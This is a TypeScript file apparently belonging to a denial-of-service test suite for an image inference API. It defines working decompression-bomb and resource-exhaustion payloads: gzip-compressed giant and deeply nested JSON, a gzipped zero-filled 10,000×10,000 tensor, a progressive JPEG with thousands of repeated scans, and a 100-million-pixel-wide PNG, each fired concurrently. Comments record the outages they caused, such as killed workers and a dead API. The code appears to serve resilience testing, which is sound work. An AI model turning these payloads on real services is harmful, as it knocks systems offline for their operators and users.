import sharp from 'sharp';
import { crc32, createDeflate, createGzip, gzipSync } from 'node:zlib';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { INFER, many, OPTIONS, strike, type Attack } from './attack.js';

/** All that a request may have of it, but for its ends. */
const JSON_BYTES = (16 << 20) - 200;
const PIECE = Buffer.alloc(1 << 20);
const gzip = { 'content-encoding': 'gzip' };
const SIDE = 10_000;

/** What is little when it is sent, and much when it is unpacked. */
export const BOMBS: readonly Attack[] = [
  {
    number: 1,
    name: 'gzip JSON to /v2, 16 at once',
    before: 'API dead after 15 s (heap), and with it the service',
    async strike(target) {
      const body = gzipSync(`{"inputs":[${'{},'.repeat(Math.floor(JSON_BYTES / 3))}{}]}`, { level: 9 });
      await many(16, 16, () => strike(target, INFER, { method: 'POST', headers: gzip, body }));
    },
  },
  {
    number: 5,
    name: 'size=4096, every level, of a tiny image',
    before: 'worker OOM-killed four times in 5.5 min',
    async strike(target) {
      const levels = 'C1,C2,C3,C4,C5,P2,P3,P4,P5,P6';
      const query = `model=mask-rcnn-resnet50&size=4096&dtype=float32&levels=${levels}&priority=high`;
      const image = sharp({ create: { width: 1, height: 1, channels: 3, background: '#123' } });
      await strike(target, `/v1/jobs?${query}`, { method: 'POST', body: await image.png().toBuffer() });
    },
  },
  {
    number: 6,
    name: 'gzip pixels to /v2, 12 at once',
    before: 'API OOM-killed after 8 s',
    async strike(target) {
      const shape = [1, SIDE, SIDE, 3];
      const parameters = { binary_data_size: SIDE * SIDE * 3 };
      const json = Buffer.from(JSON.stringify({ inputs: [{ name: 'image', datatype: 'UINT8', shape, parameters }] }));
      const body = await buffer(Readable.from(withZeros(json, SIDE * SIDE * 3)).pipe(createGzip({ level: 9 })));
      const headers = { ...gzip, 'inference-header-content-length': String(json.length) };
      await many(12, 12, () => strike(target, INFER, { method: 'POST', headers, body }));
    },
  },
  {
    number: 7,
    name: 'JPEG of 4,001 scans',
    before: '24 s of decoding that DELETE did not stop; others waited 23.8 s',
    async strike(target) {
      const image = await scans(4001);
      await many(3, 3, () => strike(target, `/v1/jobs?${OPTIONS}&priority=high`, { method: 'POST', body: image }));
    },
  },
  {
    number: 15,
    name: 'deep JSON in gzip to /v2, 8 at once',
    before: 'livez 7.8 s; 2.0–2.8 s of blocked event loop each',
    async strike(target) {
      const body = gzipSync(`{"inputs":${'['.repeat(JSON_BYTES / 2)}${']'.repeat(JSON_BYTES / 2)}}`, { level: 9 });
      await many(24, 8, () => strike(target, INFER, { method: 'POST', headers: gzip, body }));
    },
  },
  {
    number: 18,
    name: 'PNG of 100,000,000×1 pixels',
    before: 'worker peak 3.75 GB, five times, then 500 internal',
    async strike(target) {
      const image = await widePng(100_000_000);
      await many(3, 1, () => strike(target, `/v1/jobs?${OPTIONS}&priority=high`, { method: 'POST', body: image }));
    },
  },
];

async function* withZeros(head: Buffer, zeros: number): AsyncGenerator<Buffer> {
  yield head;
  for (let rest = zeros; rest > 0; rest -= PIECE.length) yield PIECE.subarray(0, rest);
  await Promise.resolve();
}

/** A progressive JPEG whose last scan comes again and again. */
async function scans(count: number): Promise<Buffer> {
  const noise = Buffer.from(Array.from({ length: 2048 * 2048 }, (_, i) => (i * 7919) % 251));
  const image = await sharp(noise, { raw: { width: 2048, height: 2048, channels: 1 } })
    .jpeg({ progressive: true, quality: 5 })
    .toBuffer();
  const last = image.lastIndexOf(Buffer.of(0xff, 0xda));
  // The last scan of a few blocks only: legal, and as much work.
  const scan = image.subarray(last, Math.min(last + 190, image.length - 2));
  return Buffer.concat([image.subarray(0, -2), ...Array.from({ length: count }, () => scan), image.subarray(-2)]);
}

/** One row of black pixels. */
async function widePng(width: number): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(1, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const pixels = await buffer(Readable.from(withZeros(Buffer.of(0), width * 3)).pipe(createDeflate({ level: 9 })));
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}
